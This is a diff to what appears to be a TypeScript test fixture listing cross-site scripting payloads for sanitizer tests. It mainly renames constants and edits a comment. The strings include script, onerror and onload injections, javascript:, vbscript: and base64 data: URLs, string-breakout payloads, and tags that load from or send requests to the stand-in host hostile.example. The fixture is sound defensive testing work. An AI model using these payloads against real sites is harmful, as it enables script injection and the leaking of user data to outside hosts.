@@ -1,8 +1,8 @@
-// Texts that would run code if a page contained them unescaped. Each sets `struck` or sends a request to another host,
-// which a test notices.
+// Texts that would run code if a page contained them unescaped. Each sets the global `struck` or sends a request to another
+// host, and the tests check for both.
 
 const ACT = 'top.struck=1';
-const HOST = 'hostile.example';
+const OTHER_HOST = 'hostile.example';
 
 /** Elements that run code by themselves. */
 const ELEMENTS = [
@@ -22,7 +22,7 @@ const ELEMENTS = [
   `<embed src="javascript:${ACT}">`,
   `<link rel=stylesheet href=x onerror=${ACT}>`,
   `<script>${ACT}</script>`,
-  `<script src=//${HOST}/a.js></script>`,
+  `<script src=//${OTHER_HOST}/a.js></script>`,
   `<p style="animation:a" onanimationstart=${ACT}>`,
 ];
 
@@ -50,8 +50,8 @@ const ADDRESSES = [
   `data:text/html,<script>${ACT}</script>`,
   `data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=`,
   `vbscript:${ACT}`,
-  `//${HOST}/x`,
-  `https:${HOST}/x`,
+  `//${OTHER_HOST}/x`,
+  `https:${OTHER_HOST}/x`,
 ];
 
 const LINKS = ADDRESSES.flatMap((address) => [
@@ -73,7 +73,7 @@ const REPAIRED = [
   `<![CDATA[<img src=x onerror=${ACT}>]]>`,
   `<xmp><p title="</xmp><svg/onload=${ACT}>">`,
   `<select><noscript></select><script>${ACT}</script>`,
-  `<table><td background=//${HOST}/x><img src=x onerror=${ACT}>`,
+  `<table><td background=//${OTHER_HOST}/x><img src=x onerror=${ACT}>`,
 ];
 
 const ENCODED = [
@@ -89,7 +89,7 @@ const ENCODED = [
   `\u202e<script>${ACT}</script>`,
 ];
 
-const CODE = [
+const CODE_TEXTS = [
   `";${ACT};//`,
   `';${ACT};//`,
   `\`;${ACT};//`,
@@ -102,15 +102,15 @@ const CODE = [
   `"}]}</script><svg onload=${ACT}>`,
 ];
 
-const OUTWARD = [
-  `<base href=//${HOST}/>`,
-  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
-  `<style>*{background:url(//${HOST}/x)}</style>`,
-  `<p style="background:url(//${HOST}/x)">x`,
-  `<img src=//${HOST}/x>`,
-  `<link rel=prefetch href=//${HOST}/x>`,
-  `<form action=//${HOST}/x><input name=a autofocus>`,
-  `![image](https://${HOST}/x.png)`,
+const REQUESTS = [
+  `<base href=//${OTHER_HOST}/>`,
+  `<meta http-equiv=refresh content="0;url=https://${OTHER_HOST}/">`,
+  `<style>*{background:url(//${OTHER_HOST}/x)}</style>`,
+  `<p style="background:url(//${OTHER_HOST}/x)">x`,
+  `<img src=//${OTHER_HOST}/x>`,
+  `<link rel=prefetch href=//${OTHER_HOST}/x>`,
+  `<form action=//${OTHER_HOST}/x><input name=a autofocus>`,
+  `![image](https://${OTHER_HOST}/x.png)`,
 ];
 
 export const HOSTILE_TEXTS: readonly string[] = [
@@ -119,8 +119,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
   ...LINKS,
   ...REPAIRED,
   ...ENCODED,
-  ...CODE,
-  ...OUTWARD,
+  ...CODE_TEXTS,
+  ...REQUESTS,
 ];
 
 /** Valid addresses that would be code in an attribute or a template. */
